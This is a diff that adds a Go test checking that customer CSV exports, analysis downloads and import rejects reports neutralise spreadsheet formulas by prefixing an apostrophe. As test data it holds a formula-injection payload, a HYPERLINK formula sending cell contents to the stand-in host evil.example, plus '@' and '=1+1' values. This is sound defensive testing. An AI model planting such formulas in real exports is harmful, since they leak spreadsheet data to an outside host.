@@ -324,3 +324,49 @@ func TestImportRejectsReport(t *testing.T) {
 		t.Errorf("rejects download: %d records; first %v; last %v", len(recs), recs[min(2, len(recs)-1)], recs[len(recs)-1])
 	}
 }
+
+// TestExportsEscapeFormulas: a customer named like a spreadsheet formula comes out with an
+// apostrophe in front in the customer CSV export, an analysis CSV download and the rejects
+// report; numbers are left alone.
+func TestExportsEscapeFormulas(t *testing.T) {
+	f := newFixture(t)
+	const link = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	quoted := `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`
+	custs := "external_id,name,city\nF1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",@home\n"
+	orders := "external_id,customer,ordered_at,amount\nFO1,F1,2025-03-01,5000\n"
+	for name, data := range map[string]string{"customers.csv": custs, "orders.csv": orders} {
+		w := f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload(name, []byte(data), map[string]string{"skip_bad": "1"})})
+		if w.Code != 200 {
+			t.Fatalf("import %s: %d %s", name, w.Code, w.Body)
+		}
+	}
+	cs, _, _ := f.st.FindCustomers(context.Background(), kexi.Filter{Where: []kexi.Cond{{Field: "external_id", Op: kexi.Eq, Value: "F1"}}})
+	if len(cs) != 1 || cs[0].Name != link {
+		t.Fatalf("imported %+v", cs)
+	}
+	check := func(what, body string, want ...string) {
+		t.Helper()
+		for _, w := range want {
+			if !strings.Contains(body, w) {
+				t.Errorf("%s lacks %s:\n%.2000s", what, w, body)
+			}
+		}
+		if strings.Contains(body, ","+link[:10]) || strings.Contains(body, `,"=HYPERLINK`) || strings.Contains(body, ",@home") {
+			t.Errorf("%s has a live formula:\n%.2000s", what, body)
+		}
+	}
+	w := f.do(req{method: "GET", path: "/api/v1/customers/export?format=csv", as: "admin"})
+	check("customers export", w.Body.String(), quoted, ",'@home")
+	w = f.do(req{method: "GET", path: "/analyses/pyramid/export?format=csv&table=customers", as: "admin", via: "session",
+		header: map[string]string{"Accept-Language": "en"}})
+	check("analysis download", w.Body.String(), quoted, ",5000,")
+	// A rejected row's cells are in the rejects report.
+	w = f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload("bad.csv",
+		[]byte("external_id,customer,ordered_at,amount\n=1+1,@F1,2025-03-01,x\n"), map[string]string{"kind": "orders", "skip_bad": "1"})})
+	var j struct{ ID string }
+	decode(t, w, &j)
+	rej := f.do(req{method: "GET", path: "/import/" + j.ID + "/rejects", as: "admin"}).Body.String()
+	if !strings.Contains(rej, ",'=1+1,'@F1,2025-03-01,x") {
+		t.Errorf("rejects report:\n%s", rej)
+	}
+}
